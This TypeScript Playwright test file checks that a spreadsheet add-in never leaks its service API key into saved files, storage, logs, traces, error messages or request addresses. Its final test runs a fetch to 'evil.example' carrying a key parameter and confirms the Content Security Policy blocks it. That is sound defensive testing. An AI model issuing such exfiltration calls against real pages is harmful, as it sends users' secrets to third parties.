/** What must not happen: the key where it does not belong, and a page that sends it elsewhere. */
import type { Frame } from 'playwright-core';
import type { WorkbookPage } from 'workbook-host';
import { bytesOf } from '../support/service/bytesOf';
import { becomesNumber } from '../support/becomesNumber';
import { partsOfFile } from '../support/workbookParts';
import { openOwnWorkplace, type OwnWorkplace } from '../support/service/workplace';

let workplace: OwnWorkplace;
let service: OwnWorkplace['service'];
let host: OwnWorkplace['host'];
let engineer: WorkbookPage;
let pane: Frame;
/** Addresses of all requests of the engineer's browser. */
const addresses: string[] = [];

beforeAll(async () => {
  workplace = await openOwnWorkplace({ switches: { workbook: 'blank' } });
  ({ service, host, book: engineer, pane } = workplace);
  engineer.context.on('request', (request) => addresses.push(request.url()));
  await engineer.reload({});
  pane = await engineer.pane();
  await becomesNumber(engineer, 'L18');
  await engineer.settled(60_000);
});

afterAll(() => workplace?.close());

/** The key as it is, and as addresses and base64 hold it. */
function forms(): string[] {
  const { apiKey } = service;
  return [apiKey, encodeURIComponent(apiKey), Buffer.from(apiKey).toString('base64').replace(/=+$/, '')];
}

function expectNoKey(place: string, text: string): void {
  expect([place, forms().filter((form) => text.includes(form))]).toEqual([place, []]);
}

describe('the key', () => {
  test('is in no part of the saved file', async () => {
    // What is written when the cells are quiet is written now.
    await pane.getByTestId('tab-handOver').click();
    await pane.getByTestId('sharing-check').click();
    await pane.getByTestId('sharing-searched').waitFor();
    const parts = partsOfFile(await engineer.save());
    expect(parts.some(({ text }) => text.includes('loadsSnow'))).toBe(true);
    for (const { name, text } of parts) expectNoKey(name, text);
  });

  test('is stored once, under its own name, and in no database', async () => {
    const storage = await pane.evaluate(() => ({
      local: { ...localStorage },
      session: { ...sessionStorage },
    }));
    const holding = Object.keys(storage.local).filter((name) =>
      String(storage.local[name]).includes(service.apiKey),
    );
    expect(holding).toEqual([expect.stringMatching(/calc\.connection$/)]);
    expectNoKey('session storage', JSON.stringify(storage.session));
    const kept = await pane.evaluate<string>(everythingKept);
    expect(kept.length).toBeGreaterThan(1_000);
    expectNoKey('IndexedDB', kept);
  });

  test('is in no address, no console, no log of host or service, and not in the trace of requests to Excel', async () => {
    expect(addresses.some((address) => address.includes('/v1/'))).toBe(true);
    expectNoKey('addresses', addresses.join('\n'));
    expectNoKey('console', engineer.complaints.join('\n'));
    expectNoKey('log of the host', host.log());
    expect(service.log().length).toBeGreaterThan(0);
    expectNoKey('log of the service', service.log());
    await engineer.page.getByRole('button', { name: 'API log' }).click();
    const [saved] = await Promise.all([
      engineer.page.waitForEvent('download'),
      engineer.page.locator('#trace-panel').getByRole('button', { name: 'Save' }).click(),
    ]);
    const trace = (await bytesOf(saved)).toString();
    expect(trace).toContain('CALC.SNOW');
    expectNoKey('trace', trace);
    expectNoKey('host page', await engineer.page.content());
    await engineer.page.getByRole('button', { name: 'API log' }).click();
  });

  test('is not in the text of an error of a service that repeats it', async () => {
    const error = { code: 'INTERNAL', message: `Bearer ${service.apiKey} is odd` };
    await engineer.context.route('**/v1/**', (route) => route.fulfill({ status: 500, json: { error } }));
    await engineer.enter('A40', '=CALC.SNOW("7-22",50,30,4,"II","Partially Exposed","C")');
    await engineer.settled(60_000);
    expect(await engineer.message('A40')).toMatch(/\w/);
    expectNoKey('cell', (await engineer.message('A40')) ?? '');
    await pane.getByTestId('tab-problems').click();
    await pane.locator('[data-testid=failing][data-cell$="!A40"]').waitFor();
    expectNoKey('problems', await pane.content());
    await pane.getByTestId('tab-settings').click();
    await pane.getByTestId('settings-test').click();
    await pane
      .locator('[data-testid=settings-status]:not([data-state=ok]):not([data-state=testing])')
      .waitFor();
    expectNoKey('settings', await pane.content());
    expectNoKey('console', engineer.complaints.join('\n'));
    await engineer.context.unroute('**/v1/**');
    await pane.getByTestId('settings-test').click();
    await pane.locator('[data-testid=settings-status][data-state=ok]').waitFor();
    await pane.getByTestId('tab-problems').click();
    await engineer.enter('A40', '');
  });
});

/** All records of all databases of this origin, as text. */
const everythingKept = `(async () => {
  const all = [];
  for (const { name } of await indexedDB.databases()) {
    const db = await new Promise((resolve, reject) => {
      const request = indexedDB.open(name);
      request.onsuccess = () => resolve(request.result);
      request.onerror = () => reject(request.error);
    });
    for (const store of db.objectStoreNames) {
      const records = db.transaction(store).objectStore(store);
      for (const got of [records.getAllKeys(), records.getAll()])
        all.push(await new Promise((resolve) => { got.onsuccess = () => resolve(got.result); }));
    }
    db.close();
  }
  return JSON.stringify(all);
})()`;

test('pages that hold a key load scripts from nowhere else and send nothing but to their services', async () => {
  const policy =
    (await pane.locator('meta[http-equiv=Content-Security-Policy]').getAttribute('content')) ?? '';
  expect(policy).toMatch(/script-src [^;]*'self'/);
  expect(policy).not.toMatch(/script-src [^;]*'unsafe-(inline|eval)'/);
  expect(policy).toMatch(/connect-src /);
  const sent = await pane.evaluate(async () => {
    try {
      await fetch('https://evil.example/?key=1', { mode: 'no-cors' });
      return 'sent';
    } catch {
      return 'refused';
    }
  });
  expect(sent).toBe('refused');
  // The browser refuses it before anything leaves.
  expect(engineer.complaints.some((text) => /Content Security Policy|connect-src/.test(text))).toBe(true);
});
